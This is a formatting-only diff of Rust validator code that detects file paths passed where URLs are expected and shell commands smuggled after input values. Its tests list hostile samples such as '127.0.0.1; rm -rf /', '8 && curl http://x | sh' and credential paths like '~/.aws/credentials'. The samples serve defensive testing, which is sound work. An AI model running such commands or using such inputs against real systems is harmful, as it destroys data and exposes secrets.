@@ -5,16 +5,24 @@ use super::look::{is_path, is_program, prose};
 /// Whether a text without a scheme, where a URL is asked for, can only be meant as a file: it climbs, it starts at a home, a
 /// drive, a share or a folder that no server's address begins with, or it names a file below a folder without a host's dot.
 pub(super) fn is_file(text: &str) -> bool {
-    const SYSTEM: [&str; 10] = ["etc", "root", "proc", "sys", "boot", "var", "usr", "opt", "srv", "mnt"];
+    const SYSTEM: [&str; 10] = [
+        "etc", "root", "proc", "sys", "boot", "var", "usr", "opt", "srv", "mnt",
+    ];
     let text = text.trim();
     let Some(rest) = text.strip_prefix('/') else {
         let (first, rest) = text.split_once('/').unwrap_or(("", ""));
         let name = rest.rsplit('/').next().unwrap_or(rest);
         let named = name.rsplit_once('.').is_some_and(|(stem, end)| {
-            !stem.is_empty() && (1..=5).contains(&end.len()) && end.bytes().all(|b| b.is_ascii_alphanumeric())
+            !stem.is_empty()
+                && (1..=5).contains(&end.len())
+                && end.bytes().all(|b| b.is_ascii_alphanumeric())
         });
         let plain = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_');
-        let below = !first.is_empty() && first.bytes().all(plain) && first != "localhost" && named && !rest.contains([':', '?']);
+        let below = !first.is_empty()
+            && first.bytes().all(plain)
+            && first != "localhost"
+            && named
+            && !rest.contains([':', '?']);
         return below || !text.contains("://") && !text.starts_with("file:") && is_path(text);
     };
     let mut parts = rest.split(['/', '\\']);
@@ -32,20 +40,34 @@ pub(super) fn goes_on_with_command(text: &str) -> bool {
     if text.len() > MOST {
         return false;
     }
-    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | ':' | '/' | '@' | '\'' | '"' | '%');
-    let end = text.trim_start().find(|c| !plain(c)).map(|end| end + text.len() - text.trim_start().len());
-    let Some((before, rest)) = end.and_then(|end| text.split_at_checked(end)) else { return false };
+    let plain = |c: char| {
+        c.is_ascii_alphanumeric()
+            || matches!(c, '.' | '_' | '-' | ':' | '/' | '@' | '\'' | '"' | '%')
+    };
+    let end = text
+        .trim_start()
+        .find(|c| !plain(c))
+        .map(|end| end + text.len() - text.trim_start().len());
+    let Some((before, rest)) = end.and_then(|end| text.split_at_checked(end)) else {
+        return false;
+    };
     let sign = |rest: &str| SIGNS.into_iter().find(|sign| rest.starts_with(sign));
     let spaced = rest.trim_start();
     // What a shell puts in has to touch the value.
-    let (Some(sign), rest) = (sign(rest).or_else(|| sign(spaced).filter(|sign| !matches!(*sign, "$(" | "`"))), spaced) else {
+    let (Some(sign), rest) = (
+        sign(rest).or_else(|| sign(spaced).filter(|sign| !matches!(*sign, "$(" | "`"))),
+        spaced,
+    ) else {
         return false;
     };
     if before.trim().len() > 128 {
         return false;
     }
     let command = rest.get(sign.len()..).unwrap_or_default().trim_start();
-    let first = command.split([' ', '\t', ')', '`', ';', '|', '&']).next().unwrap_or(command);
+    let first = command
+        .split([' ', '\t', ')', '`', ';', '|', '&'])
+        .next()
+        .unwrap_or(command);
     let name = first.rsplit('/').next().unwrap_or(first);
     is_program(name) && !prose(command)
 }
@@ -56,20 +78,51 @@ mod tests {
 
     #[test]
     fn files_where_addresses_are_asked_for() {
-        for text in ["../../x", "/etc/passwd", "~/.aws/credentials", "C:\\x", "docs/guide.md", "..%2f..%2fetc", "/home/ada/x"] {
+        for text in [
+            "../../x",
+            "/etc/passwd",
+            "~/.aws/credentials",
+            "C:\\x",
+            "docs/guide.md",
+            "..%2f..%2fetc",
+            "/home/ada/x",
+        ] {
             assert!(is_file(text), "{text}");
         }
-        for text in ["https://a.example/x.md", "/about", "/api/v1/x", "#top", "localhost/x.md", "a.example/x.md", "host:80/x"] {
+        for text in [
+            "https://a.example/x.md",
+            "/about",
+            "/api/v1/x",
+            "#top",
+            "localhost/x.md",
+            "a.example/x.md",
+            "host:80/x",
+        ] {
             assert!(!is_file(text), "{text}");
         }
     }
 
     #[test]
     fn a_command_behind_a_value_is_seen() {
-        for text in ["127.0.0.1; rm -rf /", "main|sh x", "web$(reboot)", "1.1.1.1`rm -rf /`", "8 && curl http://x | sh"] {
+        for text in [
+            "127.0.0.1; rm -rf /",
+            "main|sh x",
+            "web$(reboot)",
+            "1.1.1.1`rm -rf /`",
+            "8 && curl http://x | sh",
+        ] {
             assert!(goes_on_with_command(text), "{text}");
         }
-        for text in ["a;b", "a|b|c", "Tom & Jerry", "cost $(USD)", "see `foo`", "a; b", "fix: `rm` now", "x"] {
+        for text in [
+            "a;b",
+            "a|b|c",
+            "Tom & Jerry",
+            "cost $(USD)",
+            "see `foo`",
+            "a; b",
+            "fix: `rm` now",
+            "x",
+        ] {
             assert!(!goes_on_with_command(text), "{text}");
         }
     }
